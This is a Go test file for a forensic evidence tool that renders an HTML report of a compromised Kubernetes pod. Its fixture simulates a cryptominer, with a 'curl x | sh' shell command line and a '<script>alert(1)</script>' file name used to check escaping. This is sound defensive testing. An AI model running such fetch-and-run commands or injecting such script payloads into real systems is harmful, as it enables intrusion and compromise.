package evidence_test

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"kir.dev/kir/evidence"
)

// The attacker's pod of the node-capture fixture: a shell started a miner
// from a binary it then deleted, the miner holds a connection to its pool,
// and the container wrote the binary and a script under /tmp.
const (
	nodeDir  = "pods/shop/web-7f9c/node"
	peerAddr = "203.0.113.7:4444"
	// hostile is a name the attacker chose, with markup.
	hostile = "<script>alert(1)</script>"
)

var (
	minerBytes = []byte("\x7fELF the attacker's miner")
	minerSHA   = sha256Hex(minerBytes)
)

// nodeProcesses is processes.json of the fixture.
func nodeProcesses() map[string]any {
	proc := func(pid, ppid int, uid int, comm, container string, more map[string]any) map[string]any {
		p := map[string]any{"pid": pid, "ppid": ppid, "uid": uid, "euid": uid, "gid": uid, "egid": uid,
			"state": "S", "startTicks": 100 + pid, "start": "2026-12-06T09:00:00Z", "comm": comm,
			"cmdline": []string{comm}, "exe": "/bin/" + comm, "exeDeleted": false,
			"exeSHA256": strings.Repeat("a", 64), "exeSize": 1000, "cwd": "/", "fds": []any{},
			"container": container}
		for k, v := range more {
			p[k] = v
		}
		return p
	}
	return map[string]any{
		"node": "node-1", "capturedAt": "2026-12-06T09:10:00Z",
		"containers": []map[string]any{{"name": "app", "id": "containerd://0123456789abcdef0123", "pids": []int{1, 7, 12, 15, 40}}},
		"processes": []map[string]any{
			proc(3, 0, 65535, "pause", "", nil),
			proc(1, 0, 0, "nginx", "app", nil),
			proc(12, 7, 33, "kinsing", "app", map[string]any{
				"exe": "/tmp/kinsing (deleted)", "exeDeleted": true, "exeSHA256": minerSHA, "exeSize": len(minerBytes),
				"cmdline": []string{"/tmp/kinsing", "--pool", peerAddr, "--pass", "hunter2 secret"},
			}),
			proc(7, 1, 33, "sh", "app", map[string]any{"cmdline": []string{"sh", "-c", "curl x | sh"}}),
			proc(15, 7, 33, hostile, "app", map[string]any{"errors": []string{"exe: permission denied", "fd: permission denied"}}),
			proc(40, 99, 0, "orphan", "app", nil),
			// A cycle of ppids: each is shown once, as a root.
			proc(50, 51, 0, "cycle-a", "app", nil),
			proc(51, 50, 0, "cycle-b", "app", nil),
		},
	}
}

// nodeSockets is sockets.json of the fixture.
func nodeSockets() map[string]any {
	sock := func(proto, state, local, remote string, pids []int, listening bool) map[string]any {
		return map[string]any{"proto": proto, "family": "ipv4", "state": state, "local": local, "remote": remote,
			"inode": 1000, "uid": 33, "pids": pids, "listening": listening}
	}
	return map[string]any{
		"capturedAt": "2026-12-06T09:10:00Z", "podIPs": []string{"10.88.0.5"},
		"sockets": []map[string]any{
			sock("tcp", "TIME_WAIT", "10.88.0.5:8080", "10.88.0.9:5000", nil, false),
			sock("tcp", "LISTEN", "0.0.0.0:8080", "0.0.0.0:0", []int{1}, true),
			sock("udp", "CLOSE", "0.0.0.0:5353", "0.0.0.0:0", []int{1}, true),
			sock("tcp", "ESTABLISHED", "10.88.0.5:41234", peerAddr, []int{12, 15}, false),
		},
	}
}

// nodeLayer is layer/app.json of the fixture.
func nodeLayer() map[string]any {
	return map[string]any{
		"container": "app", "capturedAt": "2026-12-06T09:10:01Z", "upper": "/var/lib/containerd/snapshots/42/fs",
		"files": []map[string]any{
			{"path": "tmp", "type": "dir", "mode": 2147484159, "mtime": "2026-12-06T09:00:00Z"},
			{"path": "tmp/kinsing", "type": "file", "mode": 493, "size": len(minerBytes), "sha256": minerSHA, "mtime": "2026-12-06T09:00:00Z"},
			{"path": "tmp/" + hostile, "type": "file", "mode": 420, "size": 3, "sha256": strings.Repeat("b", 64), "mtime": "2026-12-06T09:00:00Z"},
			{"path": "tmp/passwd", "type": "symlink", "mode": 134218239, "target": "/etc/passwd", "mtime": "2026-12-06T09:00:00Z"},
		},
		"skipped": []map[string]any{
			{"path": "tmp/fifo", "type": "fifo", "size": 0, "reason": "special file"},
			{"path": "tmp/big.bin", "type": "file", "size": 300 << 20, "reason": "byte budget exceeded"},
		},
		"deleted": []string{"etc/cron.d/cleanup"}, "opaque": []string{"var/log"}, "bytes": len(minerBytes) + 3,
	}
}

// putNodeCapture puts the fixture's capture in b, as the capture step
// does, with the given documents (nil: the fixture's; []byte: as is).
func putNodeCapture(t testing.TB, b *evidence.Bundle, procs, socks, layer any) {
	t.Helper()
	if procs == nil {
		procs, socks, layer = nodeProcesses(), nodeSockets(), nodeLayer()
	}
	src := func(kind string) evidence.Source {
		return evidence.Source{Kind: kind, Namespace: "shop", Pod: "web-7f9c", Node: "node-1"}
	}
	put := func(name string, content []byte, s evidence.Source) {
		if _, err := b.Put(nodeDir+"/"+name, strings.NewReader(string(content)), s); err != nil {
			t.Fatal(err)
		}
	}
	putJSON := func(name string, v any, s evidence.Source) {
		if raw, ok := v.([]byte); ok {
			put(name, raw, s)
			return
		}
		raw, err := json.Marshal(v)
		if err != nil {
			t.Fatal(err)
		}
		put(name, raw, s)
	}
	putJSON("capture.json", map[string]any{"node": "node-1", "pod": "web-7f9c", "namespace": "shop", "uid": "u-1",
		"capturedAt": "2026-12-06T09:10:00Z", "notes": []string{"froze nothing"}, "errors": []string{"cwd of pid 15: permission denied"}},
		src("node-capture"))
	sensitive := src("processes")
	sensitive.Sensitive = true
	putJSON("processes.json", procs, sensitive)
	putJSON("sockets.json", socks, src("sockets"))
	put("exe/"+minerSHA, minerBytes, src("executable"))
	put("layer/app.tar", []byte("a tar"), src("layer"))
	putJSON("layer/app.json", layer, src("layer-index"))
}

// sealedReport seals a bundle holding the fixture's capture, after edit
// (if not nil) had its way with the bundle's directory, and returns
// report.html and its entry in the manifest.
func sealedReport(t *testing.T, procs, socks, layer any, edit func(dir string)) (string, evidence.File) {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "b")
	b, err := evidence.Create(dir, testOptions())
	if err != nil {
		t.Fatal(err)
	}
	putNodeCapture(t, b, procs, socks, layer)
	if edit != nil {
		edit(dir)
	}
	if err := b.Seal(nil); err != nil {
		t.Fatal(err)
	}
	var m evidence.Manifest
	readJSON(t, filepath.Join(dir, evidence.ManifestFile), &m)
	for _, f := range m.Files {
		if f.Path == evidence.ReportFile {
			return string(readFile(t, filepath.Join(dir, evidence.ReportFile))), f
		}
	}
	t.Fatalf("the manifest does not list %s", evidence.ReportFile)
	return "", evidence.File{}
}

var (
	htmlProcTable = regexp.MustCompile(`(?s)<table class="processes" data-container="([^"]*)">(.*?)</table>`)
	htmlProc      = regexp.MustCompile(`<tr class="proc[^"]*" data-pid="(\d+)" data-ppid="(\d+)" data-depth="(\d+)">`)
	htmlRow       = regexp.MustCompile(`(?s)<tr class="(?:proc|conn|listen|layer-file|skipped)[^>]*>.*?</tr>`)
)

// rowsOf returns the rows of html's table with the given class.
func rowsOf(t *testing.T, html, class string) []string {
	t.Helper()
	re := regexp.MustCompile(`(?s)<table class="` + class + `"[^>]*>(.*?)</table>`)
	m := re.FindStringSubmatch(html)
	if m == nil {
		t.Fatalf("report.html has no table %q", class)
	}
	return htmlRow.FindAllString(m[1], -1)
}

// TestReportNodeCapture: the page shows each container's process tree,
// the connections with the peer highlighted, the listening ports apart,
// and the changed files of the layer, and escapes what the attacker named.
func TestReportNodeCapture(t *testing.T) {
	t.Parallel()
	page, report := sealedReport(t, nil, nil, nil, nil)
	if !report.Source.Sensitive {
		t.Errorf("report.html shows command lines and is not marked sensitive: %+v", report.Source)
	}

	// The tree, per container, depth first: pid:ppid@depth.
	got := map[string][]string{}
	for _, m := range htmlProcTable.FindAllStringSubmatch(page, -1) {
		for _, r := range htmlProc.FindAllStringSubmatch(m[2], -1) {
			got[m[1]] = append(got[m[1]], r[1]+":"+r[2]+"@"+r[3])
		}
	}
	want := map[string][]string{
		"app": {"1:0@0", "7:1@1", "12:7@2", "15:7@2", "40:99@0", "50:51@0", "51:50@1"},
		"":    {"3:0@0"},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("process tree (-want +got):\n%s", diff)
	}
	procs := rowsOf(t, page, "processes")
	miner := procs[2]
	for _, s := range []string{
		`class="proc deleted"`, "DELETED FROM DISK", `<td>33/33`, "2026-12-06 09:00:00 UTC",
		`title="` + minerSHA + `">` + minerSHA[:12] + `<`,
		"bytes in the bundle: <code>" + nodeDir + "/exe/" + minerSHA + "</code>",
		`<code class="comm">kinsing</code>`,
		`<code class="cmdline">/tmp/kinsing --pool 203.0.113.7:4444 --pass &#34;hunter2 secret&#34;</code>`,
	} {
		if !strings.Contains(miner, s) {
			t.Errorf("the miner's row lacks %q:\n%s", s, miner)
		}
	}
	if strings.Contains(procs[0], "DELETED") || strings.Contains(procs[0], "bytes in the bundle") {
		t.Errorf("nginx's row says its executable was deleted or copied:\n%s", procs[0])
	}
	for _, s := range []string{"could not read exe: permission denied", "could not read fd: permission denied",
		`<code class="comm">&lt;script&gt;alert(1)&lt;/script&gt;</code>`} {
		if !strings.Contains(procs[3], s) {
			t.Errorf("pid 15's row lacks %q:\n%s", s, procs[3])
		}
	}
	for _, s := range []string{"command lines may hold secrets", "marks <code>" + nodeDir + "/processes.json</code> sensitive",
		"cwd of pid 15: permission denied", "On the node: pod shop/web-7f9c"} {
		if !strings.Contains(page, s) {
			t.Errorf("report.html lacks %q", s)
		}
	}

	// Connections: the peer first and highlighted, with its owners.
	conns := rowsOf(t, page, "connections")
	if len(conns) != 2 {
		t.Fatalf("%d connections, want 2 (the listening ports apart):\n%s", len(conns), conns)
	}
	for _, s := range []string{`class="conn peer"`, "ESTABLISHED", `<strong class="peer-addr">` + peerAddr + `</strong>`,
		"12 (kinsing)", "15 (&lt;script&gt;"} {
		if !strings.Contains(conns[0], s) {
			t.Errorf("the established connection lacks %q:\n%s", s, conns[0])
		}
	}
	if strings.Contains(conns[1], "peer") || !strings.Contains(conns[1], "TIME_WAIT") {
		t.Errorf("the TIME_WAIT socket is not shown plainly:\n%s", conns[1])
	}
	listen := rowsOf(t, page, "listening")
	if len(listen) != 2 || !strings.Contains(listen[0], "0.0.0.0:8080") || !strings.Contains(listen[1], "0.0.0.0:5353") ||
		!strings.Contains(listen[0], "1 (nginx)") {
		t.Errorf("listening ports:\n%s", listen)
	}

	// The changed files.
	files := rowsOf(t, page, "layer-files")
	if len(files) != 4 {
		t.Fatalf("%d layer entries, want 4", len(files))
	}
	for i, s := range []string{"drwxrwxrwx", minerSHA, "tmp/&lt;script&gt;alert(1)&lt;/script&gt;", `→ <code class="target">/etc/passwd</code>`} {
		if !strings.Contains(files[i], s) {
			t.Errorf("layer entry %d lacks %q:\n%s", i, s, files[i])
		}
	}
	skipped := rowsOf(t, page, "layer-skipped")
	if len(skipped) != 2 || !strings.Contains(skipped[0], "special file") || !strings.Contains(skipped[1], "300.0 MiB") ||
		!strings.Contains(skipped[1], "byte budget exceeded") {
		t.Errorf("skipped entries:\n%s", skipped)
	}
	for _, s := range []string{"4 entries archived", "in <code>" + nodeDir + "/layer/app.tar</code>", "1 deleted, 1 opaque directories, 2 skipped",
		"The capture's budget cut 1 entries", `<ul class="deleted"><li><code>etc/cron.d/cleanup</code></li></ul>`,
		`<ul class="opaque"><li><code>var/log</code></li></ul>`} {
		if !strings.Contains(page, s) {
			t.Errorf("report.html lacks %q", s)
		}
	}
	if strings.Contains(strings.ToLower(page), "<script") {
		t.Error("a name the attacker chose became an element")
	}
	if m := loadingAttr.FindString(strings.ToLower(page)); m != "" {
		t.Errorf("report.html has a tag that loads or runs something: %s", m)
	}
}

// TestReportNodeCapped: a pod with thousands of processes, sockets and
// files gives a page of bounded size that says how many rows it left out,
// and a flood of idle sockets does not push the peer off the page.
func TestReportNodeCapped(t *testing.T) {
	t.Parallel()
	const n = 2000
	procs, socks, layer := nodeProcesses(), nodeSockets(), nodeLayer()
	var ps []map[string]any
	var ss, fs []map[string]any
	for i := range n {
		ps = append(ps, map[string]any{"pid": 1000 + i, "ppid": 1, "comm": "fork", "container": "app"})
		ss = append(ss, map[string]any{"proto": "tcp", "state": "TIME_WAIT", "local": "10.88.0.5:80",
			"remote": fmt.Sprintf("10.88.1.%d:%d", i%250, 1024+i)})
		fs = append(fs, map[string]any{"path": fmt.Sprintf("tmp/f%d", i), "type": "file", "size": 1})
	}
	procs["processes"] = append(procs["processes"].([]map[string]any), ps...)
	socks["sockets"] = append(ss, socks["sockets"].([]map[string]any)...) // the peer last
	layer["files"] = fs
	layer["deleted"] = make([]string, n)
	layer["skippedUnlisted"] = 7
	page, _ := sealedReport(t, procs, socks, layer, nil)

	if got := len(htmlProc.FindAllString(page, -1)); got != 500 {
		t.Errorf("%d process rows, want 500", got)
	}
	conns := rowsOf(t, page, "connections")
	if len(conns) != 500 || !strings.Contains(conns[0], `<strong class="peer-addr">`+peerAddr) {
		t.Errorf("%d connection rows, want 500, the peer first; first:\n%s", len(conns), conns[0])
	}
	if got := len(rowsOf(t, page, "layer-files")); got != 500 {
		t.Errorf("%d layer rows, want 500", got)
	}
	for _, s := range []string{
		"2008 processes", "1508 not shown", "1502 more sockets not shown",
		"1500 more entries not shown", "1500 more deleted paths not shown",
		"7 more entries were skipped that the capture counted but did not list",
	} {
		if !strings.Contains(page, s) {
			t.Errorf("report.html lacks %q", s)
		}
	}
	if len(page) > 1<<20 {
		t.Errorf("report.html is %d bytes for a capture of %d rows per table", len(page), n)
	}
}

// TestReportNodeUnreadable: a capture file changed after it was written
// (before the seal, which renders the page), one that does not decode and
// one that is gone each show an error line
// in their section; the rest of the page and the seal go on.
func TestReportNodeUnreadable(t *testing.T) {
	t.Parallel()
	page, report := sealedReport(t, nodeProcesses(), nodeSockets(), []byte("{not json"), func(dir string) {
		rewrite(t, filepath.Join(dir, nodeDir, "processes.json"), func(b []byte) []byte {
			return []byte(strings.ReplaceAll(string(b), "kinsing", "kworker"))
		})
		if err := os.Remove(filepath.Join(dir, nodeDir, "sockets.json")); err != nil {
			t.Fatal(err)
		}
	})
	for _, s := range []string{
		`<p class="error">` + nodeDir + "/processes.json could not be read: processes.json changed since it was written</p>",
		`<p class="error">` + nodeDir + "/layer/app.json could not be read: decoding app.json: ",
		`<p class="error">` + nodeDir + "/sockets.json could not be read: open ",
		"<dd>froze nothing</dd>",
	} {
		if !strings.Contains(page, s) {
			t.Errorf("report.html lacks %q", s)
		}
	}
	if report.Source.Sensitive {
		t.Error("report.html is marked sensitive though it shows no command line")
	}
	for _, s := range []string{"kworker", `class="processes"`, `class="connections"`, `class="layer-files"`} {
		if strings.Contains(page, s) {
			t.Errorf("report.html shows %q, from a file that could not be read as written", s)
		}
	}
}
